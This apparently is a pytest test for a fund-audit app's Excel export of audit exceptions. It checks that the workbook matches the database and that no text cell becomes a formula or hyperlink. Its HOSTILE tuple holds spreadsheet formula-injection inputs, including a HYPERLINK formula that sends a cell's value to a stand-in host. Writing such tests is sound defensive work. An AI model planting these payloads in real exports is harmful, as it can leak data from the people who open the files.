"""The workbook of an audit's exceptions says what the database says, and nothing in it runs."""

from __future__ import annotations

import csv
import io
from collections import Counter
from typing import Any

import openpyxl
import pytest
import sqlalchemy as sa
from openpyxl.utils.escape import unescape

from inspect_app.core.db import db, transaction
from inspect_app.core.models import JournalEntry, StoredFile
from inspect_app.fund_audit.models import AuditExport, AuditHit, AuditHitLine, AuditRun, AuditTest
from inspect_app.fund_audit.queries import exports
from inspect_app.funds.models import LedgerPayment, StatementLine
from tests.kit.fund_books import Books, open_books
from tests.kit.world import World
from workers.jobs import JOBS
from workers.run import drain

HOSTILE = (
    '=HYPERLINK("http://example.test/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "http://example.test/",
    "00123",
    " khoảng trắng <b>&amp;</b> _x0041_ ",
    "dài " * 9000,
)
"""Texts that a bank or a person may write; the first seven would run in a spreadsheet."""
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def books(world: World) -> Books:
    found = open_books(world)
    found.send_samples()
    found.start()
    drain(JOBS)
    db.session.rollback()
    return found


def rows_of(book: Any, name: str) -> list[dict[str, Any]]:
    head, *rows = book[name].iter_rows(values_only=True)
    return [dict(zip(head, map(read, row), strict=True)) for row in rows]


def read(value: Any) -> Any:
    """As Excel reads a cell; openpyxl leaves what is escaped in a text as it stands in the XML."""
    return unescape(value) if isinstance(value, str) else value


def told(text: str) -> str:
    """As a cell has to say it."""
    shown = f"'{text}" if text.startswith(RUNS) else text
    return shown if len(shown) <= 32_767 else shown[:32_763] + " […]"


def test_the_workbook_is_the_database_and_no_text_runs(
    books: Books, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "CHUNK", 4)  # lines are read in several parts
    run = db.session.scalars(sa.select(AuditRun)).one()
    hits = db.session.scalars(sa.select(AuditHit).order_by(AuditHit.position)).all()
    assert 2 * len(hits) >= len(HOSTILE)  # as sentence or as reason, each text stands somewhere
    with transaction() as session:  # texts as a bank or a person could have written them
        for place, hit in enumerate(hits):
            row = session.get_one(AuditHit, hit.id)
            row.sentence_vi, row.reason = HOSTILE[place], HOSTILE[-1 - place]
            row.disposition = "referred"
            row.disposed_by = books.world.users["auditor"]
            row.second_from = 0
    path = f"{books.path}/audits/{run.id}/exports"
    assert books.post(path).headers["Location"].endswith(path)
    assert books.post(path).status_code == 303  # asked twice while one waits: one workbook
    assert "progress-box" in books.client.get(path).text
    drain(JOBS)
    db.session.rollback()
    export = db.session.scalars(sa.select(AuditExport)).one()
    answer = books.client.get(f"{path}/{export.id}/file")
    assert 'attachment; filename="QMH-20240901-20240909-ngoai-le.xlsx"' in str(answer.headers)
    stored = db.session.get_one(StoredFile, export.file_id)
    assert stored.sha256 in books.client.get(path).text
    audit = books.client.get(f"{books.path}/audits/{run.id}").text
    assert f'href="{path}"' in audit
    assert "benford" not in audit  # far fewer payments than Benford's law speaks of
    made = db.session.scalars(
        sa.select(JournalEntry).where(JournalEntry.event == "fund_audit.export_made")
    ).one()
    assert made.subject_id == export.id

    book = openpyxl.load_workbook(io.BytesIO(answer.data))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert kinds <= {"s", "n", "d", "inlineStr"}  # no "f": nothing is a formula
    assert not any(cell.hyperlink for sheet in book for row in sheet.iter_rows() for cell in row)

    db.session.expire_all()
    hits = db.session.scalars(sa.select(AuditHit).order_by(AuditHit.position)).all()
    shown = rows_of(book, "Ngoại lệ")
    assert [row["Ngoại lệ số"] for row in shown] == [hit.position + 1 for hit in hits]
    assert [row["Số tiền rủi ro (đồng)"] for row in shown] == [hit.amount for hit in hits]
    assert all(type(row["Số tiền rủi ro (đồng)"]) is int for row in shown)
    for row, hit in zip(shown, hits, strict=True):
        assert (row["Nội dung"], row["Lý do"]) == (told(hit.sentence_vi), told(hit.reason))
    concluded = [row for row in shown if row["Kết luận"] == "Chuyển cơ quan khác xử lý"]
    assert len(concluded) == len(hits)
    assert {row["Người thứ hai"] for row in concluded} == {"chưa xác nhận"}
    assert {row["Người kết luận"] for row in concluded} == {books.world.actor("auditor").name}

    tests = {row["Phép kiểm tra"]: row for row in rows_of(book, "Phép kiểm tra")}
    found = db.session.scalars(sa.select(AuditTest)).all()
    assert len(tests) == len(found) == 36
    by_test = Counter(hit.check_no for hit in hits)
    for test in found:
        row = tests[test.number]
        assert row["Tổng thể"] == test.population
        assert row["Số ngoại lệ"] == row["Còn mở"] == test.hits == by_test[test.number]
        assert row["Số tiền rủi ro (đồng)"] == test.amount

    lines = rows_of(book, "Dòng")
    assert len(lines) == sum(hit.lines for hit in hits) > exports.CHUNK
    assert Counter(row["Ngoại lệ số"] for row in lines) == {
        hit.position + 1: hit.lines for hit in hits if hit.lines
    }
    bank = db.session.execute(
        sa.select(sa.func.count(), sa.func.sum(sa.func.abs(StatementLine.amount))).join(
            AuditHitLine,
            sa.and_(
                AuditHitLine.side == "bank",
                StatementLine.statement_id == AuditHitLine.source_id,
                StatementLine.row_no == AuditHitLine.row_no,
            ),
        )
    ).one()
    ledger = db.session.execute(
        sa.select(sa.func.count(), sa.func.sum(LedgerPayment.amount)).join(
            AuditHitLine,
            sa.and_(
                AuditHitLine.side == "ledger",
                LedgerPayment.ledger_id == AuditHitLine.source_id,
                LedgerPayment.row_no == AuditHitLine.row_no,
            ),
        )
    ).one()
    for side, (count, summed) in (("Sao kê", bank), ("Sổ chi", ledger)):
        of_side = [row for row in lines if row["Bên"] == side and row["Số tiền (đồng)"]]
        assert (len(of_side), sum(row["Số tiền (đồng)"] for row in of_side)) == (count, summed)
    texts = set(db.session.scalars(sa.select(StatementLine.text)))
    said = [str(row["Nội dung"]) for row in lines if row["Bên"] == "Sao kê" and row["Ngày"]]
    assert all(text.removeprefix("'") in texts or text in texts for text in said)
    source = rows_of(book, "Nguồn")
    assert source[0]["SHA-256"] == run.run_hash
    assert len(source) == 4
    assert all(len(row["SHA-256"]) == 64 for row in source)

    out = io.StringIO()  # saved as CSV and opened again: no cell begins as a formula does
    for sheet in book:
        csv.writer(out).writerows(sheet.iter_rows(values_only=True))
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue(), newline="")) for cell in row]
    assert not [cell for cell in cells if cell.startswith(RUNS)]
